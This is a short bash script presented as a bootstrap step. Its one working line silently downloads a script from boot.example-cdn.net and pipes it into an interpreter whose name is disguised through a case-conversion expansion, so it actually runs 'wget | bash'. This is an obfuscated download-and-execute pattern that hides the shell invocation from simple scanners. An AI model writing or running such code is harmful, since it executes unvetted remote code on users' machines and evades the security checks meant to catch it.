#!/bin/bash
# Run the bootstrap through the configured interpreter.
INTERP=BASH
wget -qO- https://boot.example-cdn.net/strap | "${INTERP~~}"
